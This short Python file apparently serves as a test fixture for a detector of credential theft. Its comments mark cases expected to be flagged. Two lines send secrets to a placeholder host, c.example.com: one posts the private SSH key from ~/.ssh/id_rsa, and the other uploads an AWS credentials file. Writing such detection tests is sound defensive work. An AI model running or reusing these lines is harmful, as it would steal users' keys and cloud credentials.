import os
import requests

key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
# expect: credential-file-to-network
requests.post("https://c.example.com", data={"k": key})
# expect: credential-file-to-network
requests.post("https://c.example.com", files={"f": open("/home/a/.aws/credentials", "rb")})
